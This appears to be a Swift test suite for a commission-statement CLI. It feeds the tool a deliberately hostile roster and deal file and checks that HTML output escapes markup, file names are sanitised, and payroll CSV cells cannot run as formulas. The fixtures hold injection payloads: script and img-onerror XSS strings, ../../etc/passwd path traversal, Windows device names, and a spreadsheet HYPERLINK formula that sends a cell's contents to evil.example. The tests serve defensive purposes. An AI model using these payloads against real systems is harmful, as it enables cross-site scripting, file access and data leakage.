import Testing
import ChannelComp
@testable import ChannelCompCLI

/// A roster written to attack the outputs: markup in names, path tricks and device names in
/// ids, ids that sanitise to the same name, names a spreadsheet would run as formulas.
@Suite struct HostileRosterTests {
    static let people = """
        id,name,role,quota,territory
        ../../etc/passwd,<script>alert(1)</script>,direct_rep,100000,WEST
        CON,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",direct_rep,100000,EAST
        a/b,@SUM(1+1),direct_rep,100000,NORTH
        a:b,-2+3,direct_rep,100000,SOUTH
        ?cmd,"\tTabbed",direct_rep,100000,
        ann,"Line
        Break",direct_rep,100000,
        ANN,+Upper Ann,channel_manager,100000,

        """
    static let partners = """
        id,name,level,manager
        P/1,<img src=x onerror=alert(1)>,,ANN
        nul,"</td></tr><tr><td>fake",Gold,

        """
    /// D1 (direct, S 10000.00, rep ../../etc/passwd) is cancelled 2027-02-05, 26 days later:
    /// clawed back in 2027-02, so that rep's February payout is a recovery of 10000.00 × 5 % = 500.00.
    static let deals = """
        deal_id,date,event,account,territory,product,quantity,unit_list_price,currency,channel,partner,registration,sourced_by,reps,purchase
        <b>D1</b>,2027-01-10,,<i>acct</i>,WEST,WIDGET,10,1000,USD,direct,,,,../../etc/passwd,
        D2,2027-01-20,,"%2+2",WEST,<u>W</u>,5,1000,USD,partner,P/1,approved,,,upfront
        D3,2027-01-25,,A3,EAST,WIDGET,2,2500,USD,direct,nul,approved,partner,CON;?cmd,
        <b>D1</b>,2027-02-05,cancellation,,,,,,,,,,,,

        """

    static func outputs(_ period: String) throws -> (run: PayoutRun, files: [String: String]) {
        let inputs = try StatementFixture.inputs(people: people, partners: partners, deals: deals)
        let run = try StatementFixture.run(inputs, period)
        return (run, StatementFixture.files(run, inputs))
    }

    /// Sorted by id bytes: ../../etc/passwd, =cmd, ANN, CON, a/b, a:b, ann. `ANN` is clean and
    /// claims `ann` first, so the person `ann` (same name on a case-insensitive disk) is `ann-2`.
    @Test func fileNamesAreSafeAndUnique() throws {
        let (_, files) = try Self.outputs("2027-01")
        let statements = Set(files.keys.filter { $0.hasSuffix(".html") && $0 != "index.html" })
        #expect(statements == [
            "people/_.._.._etc_passwd.html", "people/_cmd.html", "people/ANN.html", "people/_CON.html",
            "people/a_b.html", "people/a_b-2.html", "people/ann-2.html",
            "partners/P_1.html", "partners/_nul.html",
        ])
        var seen: Set<String> = []
        for name in files.keys {
            let parts = name.split(separator: "/", omittingEmptySubsequences: false)
            #expect(parts.count <= 2, "\(name)")
            if parts.count == 2 { #expect(parts[0] == "people" || parts[0] == "partners", "\(name)") }
            let file = String(parts.last ?? "")
            #expect(!file.hasPrefix("."), "\(name)")
            #expect(file.unicodeScalars.allSatisfy { $0.isASCII && ($0.properties.isAlphabetic || ("0"..."9").contains($0) || "._-".unicodeScalars.contains($0)) }, "\(name)")
            let device = file.split(separator: ".").first.map { $0.lowercased() } ?? ""
            #expect(!StatementFileName.reservedDeviceNames.contains(device), "\(name)")
            #expect(seen.insert(name.lowercased()).inserted, "\(name) collides case-insensitively")
        }
    }

    @Test func markupIsEscapedEverywhere() throws {
        let (run, files) = try Self.outputs("2027-01")
        for (name, text) in files where name.hasSuffix(".html") {
            let lower = text.lowercased()
            for banned in ["<script", "<img", "<b>", "<i>", "<u>", "</td></tr><tr><td>fake"] {
                #expect(!lower.contains(banned), "\(name) contains \(banned)")
            }
        }
        let index = try #require(files["index.html"])
        #expect(index.contains("<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>"))
        #expect(index.contains("<td>&lt;img src=x onerror=alert(1)&gt;</td>"))
        #expect(index.contains("<td>&lt;/td&gt;&lt;/tr&gt;&lt;tr&gt;&lt;td&gt;fake</td>"))
        #expect(index.contains("<a href=\"people/_.._.._etc_passwd.html\">../../etc/passwd</a>"))
        let person = try #require(files["people/_.._.._etc_passwd.html"])
        #expect(person.contains("<title>&lt;script&gt;alert(1)&lt;/script&gt; (../../etc/passwd) — statement 2027-01</title>"))
        #expect(person.contains("<td>&lt;b&gt;D1&lt;/b&gt;</td>"))       // deal id
        #expect(person.contains("<td>&lt;i&gt;acct&lt;/i&gt;</td>"))     // account
        let partner = try #require(files["partners/P_1.html"])
        #expect(partner.contains("<td>&lt;u&gt;W&lt;/u&gt;</td>"))       // product
        // Every payee is in the index.
        for p in run.people { #expect(index.contains(">\(HTML.escape(p.id.rawValue))</a>"), "\(p.id)") }
        for p in run.partners { #expect(index.contains(">\(HTML.escape(p.id.rawValue))</a>"), "\(p.id)") }
    }

    /// A name with a line break cannot add a line to a text statement.
    @Test func textStatementsKeepTheirLines() throws {
        let (_, files) = try Self.outputs("2027-01")
        let ann = try #require(files["people/ann-2.txt"])
        #expect(ann.hasPrefix("Line\u{FFFD}Break (ann) — statement 2027-01\n"))
    }

    /// In February the clawback of D1 makes ../../etc/passwd's payout −500.00: the amount keeps
    /// its sign while every text cell that starts a formula gets an apostrophe.
    @Test func payrollCellsAreNeutralised() throws {
        let (run, files) = try Self.outputs("2027-02")
        let rows = try StatementFixture.csvRows(try #require(files["payouts.csv"]))
        #expect(rows.count == 1 + run.people.count + run.partners.count)
        for row in rows.dropFirst() {
            for text in [row[1], row[2]] {
                #expect(!(text.first.map { "=+-@\t\r".contains($0) } ?? false), "\(text.debugDescription) can run as a formula")
            }
        }
        let byID = Dictionary(rows.dropFirst().map { ($0[1], $0) }, uniquingKeysWith: { a, _ in a })
        #expect(byID["../../etc/passwd"]?[3] == "-500.00")
        #expect(byID["?cmd"]?[2] == "'\tTabbed")
        #expect(byID["CON"]?[2] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
        #expect(byID["a/b"]?[2] == "'@SUM(1+1)")
        #expect(byID["a:b"]?[2] == "'-2+3")
        #expect(byID["ANN"]?[2] == "'+Upper Ann")
        #expect(byID["ann"]?[2] == "Line\nBreak")   // quoted, kept verbatim for payroll
    }
}
